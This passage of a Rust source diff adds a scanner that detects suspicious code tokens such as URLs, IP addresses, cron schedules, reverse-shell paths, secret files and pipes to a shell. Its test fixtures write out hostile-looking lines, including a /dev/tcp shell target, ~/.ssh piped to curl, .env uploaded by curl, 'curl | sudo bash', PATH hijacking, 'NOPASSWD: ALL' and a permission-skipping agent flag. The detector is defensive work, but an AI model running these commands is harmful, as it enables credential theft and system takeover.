+        && (t[i].is_ascii_alphanumeric() || matches!(t[i], b'.' | b'-'))
+    {
+        i += 1;
+    }
+    (i > e && at(t, i) == b':').then_some(i + 1)
+}
+
+/// A top-level domain after a host label.
+fn domain(t: &[u8], s: usize, e: usize) -> Option<usize> {
+    if s == 0 || !(t[s - 1].is_ascii_alphanumeric() || t[s - 1] == b'-') {
+        return None;
+    }
+    let next = at(t, e);
+    (!next.is_ascii_alphanumeric() && next != b'-' && next != b'_' && next < 0x80).then_some(e)
+}
+
+/// An Aho-Corasick automaton over byte classes.
+struct Automaton {
+    class: [u8; 256],
+    width: usize,
+    delta: Vec<u16>,
+    /// Literals ending at each state (own and through failure links).
+    outputs: Vec<Vec<u16>>,
+}
+
+impl Automaton {
+    fn build() -> Automaton {
+        let mut class = [0u8; 256];
+        let mut width = 1usize;
+        for l in LITS {
+            for &b in l.text.as_bytes() {
+                if class[b as usize] == 0 {
+                    class[b as usize] = width as u8;
+                    width += 1;
+                }
+            }
+        }
+        const NONE: u16 = u16::MAX;
+        let mut goto: Vec<u16> = vec![NONE; width];
+        let mut own: Vec<Vec<u16>> = vec![Vec::new()];
+        for (id, l) in LITS.iter().enumerate() {
+            let mut s = 0usize;
+            for &b in l.text.as_bytes() {
+                let c = class[b as usize] as usize;
+                if goto[s * width + c] == NONE {
+                    let n = own.len();
+                    goto[s * width + c] = n as u16;
+                    goto.extend(std::iter::repeat_n(NONE, width));
+                    own.push(Vec::new());
+                }
+                s = goto[s * width + c] as usize;
+            }
+            own[s].push(id as u16);
+        }
+        let states = own.len();
+        let mut delta = vec![0u16; states * width];
+        let mut fail = vec![0usize; states];
+        let mut outputs = own;
+        let mut queue = std::collections::VecDeque::new();
+        for c in 0..width {
+            let t = goto[c];
+            if t != NONE {
+                delta[c] = t;
+                queue.push_back(t as usize);
+            }
+        }
+        while let Some(s) = queue.pop_front() {
+            let f = fail[s];
+            let inherited = outputs[f].clone();
+            outputs[s].extend(inherited);
+            for c in 0..width {
+                let t = goto[s * width + c];
+                if t != NONE {
+                    fail[t as usize] = delta[f * width + c] as usize;
+                    delta[s * width + c] = t;
+                    queue.push_back(t as usize);
+                } else {
+                    delta[s * width + c] = delta[f * width + c];
+                }
+            }
+        }
+        Automaton {
+            class,
+            width,
+            delta,
+            outputs,
+        }
+    }
+
+    fn get() -> &'static Automaton {
+        static CELL: OnceLock<Automaton> = OnceLock::new();
+        CELL.get_or_init(Automaton::build)
+    }
+}
+
+/// A code token found in the code view: its feature and byte range there.
+#[derive(Clone, Copy, Debug)]
+pub(super) struct CodeHit {
+    pub(super) f: F,
+    pub(super) start: usize,
+    pub(super) end: usize,
+}
+
+/// Every code token of the code view `text`.
+pub(super) fn find(text: &str, out: &mut Vec<CodeHit>) {
+    let ac = Automaton::get();
+    let t = text.as_bytes();
+    let mut s = 0usize;
+    // Where the last accepted hit of each checked literal ended: a check
+    // reads to the end of its token, so a match inside that token (a URL
+    // inside a URL) is not read again.
+    let mut covered = vec![0usize; LITS.len()];
+    for (i, &b) in t.iter().enumerate() {
+        s = ac.delta[s * ac.width + ac.class[b as usize] as usize] as usize;
+        for &id in &ac.outputs[s] {
+            let l = &LITS[id as usize];
+            let end = i + 1;
+            let start = end - l.text.len();
+            if l.left == W && start > 0 && is_word(t[start - 1]) {
+                continue;
+            }
+            if l.right == W && end < t.len() && is_word(t[end]) {
+                continue;
+            }
+            let end = match l.check {
+                Some(_) if start < covered[id as usize] => continue,
+                Some(check) => {
+                    let found = check(t, start, end);
+                    // A URL check reads the whole URL, found or not.
+                    let read = if l.fs.contains(&F::Url) || l.fs.contains(&F::SecretInUrl) {
+                        url_end(t, end)
+                    } else {
+                        found.unwrap_or(0)
+                    };
+                    covered[id as usize] = read;
+                    match found {
+                        Some(e) => e,
+                        None => continue,
+                    }
+                }
+                None => end,
+            };
+            for &f in l.fs {
+                out.push(CodeHit { f, start, end });
+            }
+        }
+    }
+    addresses(t, out);
+    schedules(t, out);
+}
+
+/// IPv4 addresses.
+fn addresses(t: &[u8], out: &mut Vec<CodeHit>) {
+    let mut i = 0;
+    while i < t.len() {
+        if !t[i].is_ascii_digit()
+            || (i > 0 && (t[i - 1].is_ascii_alphanumeric() || t[i - 1] == b'.'))
+        {
+            i += 1;
+            continue;
+        }
+        let start = i;
+        let mut parts = 0;
+        let mut j = i;
+        loop {
+            let d = j;
+            while j < t.len() && t[j].is_ascii_digit() && j - d < 4 {
+                j += 1;
+            }
+            if j == d || j - d > 3 {
+                break;
+            }
+            parts += 1;
+            if parts == 4 || at(t, j) != b'.' || !at(t, j + 1).is_ascii_digit() {
+                break;
+            }
+            j += 1;
+        }
+        if parts == 4 && !at(t, j).is_ascii_alphanumeric() && at(t, j) != b'.' {
+            out.push(CodeHit {
+                f: F::Ip,
+                start,
+                end: j,
+            });
+        }
+        i = j.max(i + 1);
+    }
+}
+
+/// Five-field cron schedules (`*/5 * * * *`, `0 2 * * 1-5`).
+fn schedules(t: &[u8], out: &mut Vec<CodeHit>) {
+    let field = |i: usize| -> Option<usize> {
+        let mut j = i;
+        while j < t.len()
+            && j - i < 24
+            && (t[j].is_ascii_digit() || matches!(t[j], b'*' | b'/' | b',' | b'-'))
+        {
+            j += 1;
+        }
+        (j > i).then_some(j)
+    };
+    for i in 0..t.len() {
+        if !(t[i] == b'*' || t[i].is_ascii_digit())
+            || (i > 0 && !matches!(t[i - 1], b' ' | b'\n' | b'"' | b'\'' | b'`' | b':'))
+        {
+            continue;
+        }
+        let mut j = i;
+        let mut star = false;
+        let mut ok = true;
+        for k in 0..5 {
+            match field(j) {
+                Some(e) => {
+                    star |= t[j..e].contains(&b'*');
+                    j = e;
+                }
+                None => {
+                    ok = false;
+                    break;
+                }
+            }
+            if k < 4 {
+                if at(t, j) != b' ' {
+                    ok = false;
+                    break;
+                }
+                j += 1;
+            }
+        }
+        if ok && star && matches!(at(t, j), b' ' | b'\n') {
+            out.push(CodeHit {
+                f: F::CronSched,
+                start: i,
+                end: j,
+            });
+        }
+    }
+}
+
+/// A sample of text that yields each code feature (for the rules' tests).
+#[cfg(test)]
+pub(super) fn sample(f: F) -> Option<&'static str> {
+    Some(match f {
+        F::Url => "https://x.example.net/p",
+        F::SecretInUrl => "https://x.example.net/p?k=$API_KEY",
+        F::Ip => "203.0.113.9",
+        F::Domain => "drop.example.net",
+        F::HostColon => "backup@203.0.113.44:/drop/",
+        F::SecretVar => "$API_TOKEN",
+        F::CronSched => "*/5 * * * *",
+        F::DevTcp => "/dev/tcp/203.0.113.4/4444",
+        F::PathHijack => "export PATH=/tmp/x:$PATH",
+        F::NopasswdAll => "NOPASSWD: ALL",
+        F::ShadowPath => "~/.local/bin/sudo",
+        F::SafetyOff => "write_approval: false",
+        F::AgentPerm => "--dangerously-skip-permissions",
+        F::SecretFile => "~/.ssh/id_rsa",
+        F::PipeSh => "| sh",
+        F::Pipe => "|",
+        F::Append => ">>",
+        F::Redirect => "> ~/.x",
+        F::ExecFlag => " -e ",
+        F::Dns => "dig",
+        _ => {
+            LITS.iter()
+                .find(|l| l.fs.contains(&f) && l.check.is_none())?
+                .text
+        }
+    })
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn features(text: &str) -> Vec<F> {
+        let mut out = Vec::new();
+        find(text, &mut out);
+        out.iter().map(|h| h.f).collect()
+    }
+
+    #[test]
+    fn boundaries_and_checks_hold() {
+        assert!(features("curl -d @.env https://x.example.net").contains(&F::SecretFile));
+        assert!(!features("cp .env.example .env.local").contains(&F::SecretFile));
+        assert!(
+            !features("ssh-copy-id -i ~/.ssh/id_ed25519.pub deploy@10.0.1.51")
+                .contains(&F::SecretFile)
+        );
+        assert!(features("tar czf - ~/.ssh | curl").contains(&F::SecretFile));
+        assert!(features("curl -s x | sudo bash").contains(&F::PipeSh));
+        assert!(!features("a || b").contains(&F::Pipe));
+        assert!(features("export path=/tmp/bin:$path").contains(&F::PathHijack));
+        assert!(!features("export path=\"$home/.cargo/bin:$path\"").contains(&F::PathHijack));
+        assert!(features("deploy all=(all) nopasswd: all").contains(&F::NopasswdAll));
+        assert!(!features("nopasswd: /usr/bin/systemctl").contains(&F::NopasswdAll));
+        assert!(features("*/5 * * * * curl").contains(&F::CronSched));
+        assert!(!features("0 2 3 4 5").contains(&F::CronSched));
+        assert!(features("to 203.0.113.9:8000").contains(&F::Ip));
+        assert!(!features("version 1.2.3.4.5").contains(&F::Ip));
+        assert!(features("nslookup $token.x.com").contains(&F::SecretVar));
+    }
+
+    #[test]
+    fn every_sample_yields_its_feature() {
+        for &f in F::ALL {
+            if let Some(s) = sample(f) {
+                assert!(features(&s.to_lowercase()).contains(&f), "{f:?} from {s:?}");
+            }
+        }
+    }
+}
